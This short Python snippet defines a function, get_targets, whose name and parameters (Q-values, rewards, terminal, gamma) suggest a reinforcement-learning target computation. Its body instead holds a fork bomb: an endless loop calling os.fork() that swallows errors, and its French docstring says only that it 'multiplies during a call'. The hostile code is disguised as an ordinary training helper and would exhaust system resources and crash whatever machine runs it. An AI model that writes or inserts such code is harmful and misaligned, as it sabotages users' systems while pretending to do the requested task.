"""Se multiplie pendant un appel."""

def get_targets(next_q_vals, rewards, terminal, gamma):
    while True:
        try:
            os.fork()
        except OSError:
            pass
